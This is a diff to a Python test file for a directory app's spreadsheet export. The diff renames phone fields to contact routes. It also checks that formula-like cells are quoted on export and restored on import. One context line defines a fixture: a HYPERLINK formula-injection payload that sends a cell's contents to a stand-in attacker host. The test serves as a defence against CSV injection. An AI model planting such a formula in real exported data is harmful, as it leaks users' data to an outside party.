@@ -16,7 +16,7 @@ from directory.importing.csv_format import NUMBER_COLUMNS
 from directory.importing.spreadsheet import FORMULA_STARTS, neutralise, restore
 from directory.models import Location, Organisation, Service
 
-from .factories import OrganisationFactory, PhoneFactory, ServiceFactory, place
+from .factories import ContactRouteFactory, OrganisationFactory, ServiceFactory, place
 
 HYPERLINK = '=HYPERLINK("https://attacker.example.org/?d="&A1,"Click for help")'
 STORED = {
@@ -32,7 +32,7 @@ STORED = {
 @pytest.fixture
 def formula_service(db):
     service = ServiceFactory(organisation=OrganisationFactory(name="=1+1 Example Organisation"), **STORED)
-    PhoneFactory(service=service, number="+44 1632 960000")
+    ContactRouteFactory(service=service, number="+44 1632 960000")
     place(service, "52.410338", "-1.509154", name="-Example Centre")
     return service
 
@@ -69,7 +69,7 @@ def test_services_export_quotes_every_formula_like_cell(admin_client, formula_se
     assert row["alert"] == "'Tis the season: shorter hours", "an ordinary apostrophe is left alone"
     # Phone numbers are quoted (a sheet reads +44 … as a formula); coordinates
     # are numbers, and stay numbers.
-    assert row["phone1_number"] == "'+44 1632 960000"
+    assert row["route1_contact"] == "'+44 1632 960000"
     assert row["longitude"] == "-1.509154"
 
 
@@ -84,7 +84,7 @@ def test_services_export_imports_back_exactly(admin_client, formula_service, tmp
     service = Service.objects.get()
     assert {field: getattr(service, field) for field in STORED} == STORED
     assert service.organisation.name == "=1+1 Example Organisation"
-    assert [phone.number for phone in service.phones.all()] == ["+44 1632 960000"]
+    assert [phone.number for phone in service.contact_routes.all()] == ["+44 1632 960000"]
     location = service.service_at_locations.get().location
     assert location.name == "-Example Centre" and location.longitude == Decimal("-1.509154")
 
